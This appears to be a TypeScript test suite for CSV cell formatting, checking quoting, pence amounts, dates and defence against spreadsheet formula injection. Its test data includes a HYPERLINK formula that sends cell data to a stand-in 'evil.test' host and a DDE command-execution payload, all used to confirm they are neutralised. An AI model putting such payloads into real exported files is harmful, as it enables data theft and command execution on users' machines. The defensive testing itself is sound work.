import { PGlite } from '@electric-sql/pglite';
import fc from 'fast-check';
import { describe, expect, onTestFinished, test } from 'vitest';
import { readCsv } from '@counterfoil/testkit/read-csv';
import { csvAmount, csvDate, csvText, csvYesNo, EMPTY } from './csv-cells.ts';

describe('a text cell', () => {
  test.each([
    'Smith & Sons',
    'Żółć 你好 😀',
    '',
    'null',
    'a=b',
    'O-1',
    'jo@example.test',
    "'quoted'",
  ])('writes %j unchanged', (text) => {
    expect(csvText(text)).toBe(text);
  });

  test.each(['Smith, Sons', 'two\nlines', 'two\r\nlines', 'a;b', 'a\tb', ' before', 'after '])(
    'writes %j in quotes',
    (text) => {
      expect(csvText(text)).toBe(`"${text}"`);
    },
  );

  test('doubles quotes', () => {
    expect(csvText('the "Old" Mill')).toBe('"the ""Old"" Mill"');
    expect(csvText('"')).toBe('""""');
  });

  test('is empty for a missing text, and never says "null"', () => {
    expect(csvText(null)).toBe('');
    expect([EMPTY, csvAmount(null), csvDate(null)]).toEqual(['', '', '']);
  });

  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.test?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+44 20 7946 0101',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1',
    '\tharmless?',
    '\rharmless?',
    '\n=1',
    ' =1',
    '  \u00a0+1',
    '\u200b=1',
    '\ufeff=1',
    '\u0000=1',
    ' \u200b \t x',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' ＝1',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫SUM(A1)',
    '−1',
    '=',
    '-',
  ])('puts an apostrophe before %j, so that no spreadsheet runs it', (given) => {
    expect(readCsv(csvText(given))).toEqual([[`'${given}`]]);
  });
});

describe('figures and dates', () => {
  test.each([
    [13461, '134.61'],
    [0, '0.00'],
    [5, '0.05'],
    [-500, '-5.00'],
    [999_999_999_999, '9999999999.99'],
  ])('%d pence is the number %s, also when negative', (pence, cell) => {
    expect(csvAmount(pence)).toBe(cell);
  });

  test('an amount with part of a penny is refused, not rounded', () => {
    expect(() => csvAmount(0.5)).toThrow(RangeError);
  });

  test('a date is day, month, year', () => {
    expect(csvDate('2026-11-07')).toBe('07/11/2026');
    expect([csvYesNo(true), csvYesNo(false)]).toEqual(['Yes', 'No']);
  });
});

describe('any typed text', () => {
  const PIECES = [
    '=',
    '+',
    '-',
    '@',
    '"',
    "'",
    ',',
    ';',
    '\t',
    '\r',
    '\n',
    ' ',
    '＝',
    '\u200b',
    'a',
  ];
  const typed = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...PIECES), maxLength: 12 }),
  );
  const rows = fc.array(fc.array(typed, { minLength: 3, maxLength: 3 }), {
    minLength: 1,
    maxLength: 5,
  });
  const fileOf = (texts: readonly (readonly string[])[]) =>
    texts.map((row) => `${row.map(csvText).join(',')}\r\n`).join('');

  const withoutNul = (texts: readonly (readonly string[])[]) =>
    texts.map((row) => row.map((text) => text.replaceAll('\0', '')));

  test('is read back unchanged, except for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(rows, (texts) => {
        const asked = withoutNul(texts);
        const kept = readCsv(fileOf(asked)).map((row, y) =>
          row.map((cell, x) => (cell === asked[y]?.[x] ? cell : cell.replace(/^'/, ''))),
        );
        expect(kept).toEqual(asked);
      }),
    );
  });

  test('is read by PostgreSQL as by our own reader', { tags: ['whole'] }, async () => {
    const judge = await PGlite.create();
    onTestFinished(() => judge.close());
    await judge.exec('create table read (place serial, a text, b text, c text)');
    const copied = async (file: string): Promise<string[][]> => {
      await judge.exec('truncate read restart identity');
      await judge.query("copy read (a, b, c) from '/dev/blob' with (format csv, null '\\N')", [], {
        blob: new Blob([file]),
      });
      const { rows: read } = await judge.query<{ a: string; b: string; c: string }>(
        'select a, b, c from read order by place',
      );
      return read.map(({ a, b, c }) => [a, b, c]);
    };
    await fc.assert(
      fc.asyncProperty(rows, async (texts) => {
        const file = fileOf(withoutNul(texts));
        expect(await copied(file)).toEqual(readCsv(file));
      }),
    );
  });

  test('never leaves a cell that starts like a formula', () => {
    fc.assert(
      fc.property(rows, (texts) => {
        for (const cell of readCsv(fileOf(texts)).flat()) {
          expect(cell.replace(/^[ \u00a0\u3000]+/, '')).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        }
      }),
    );
  });
});
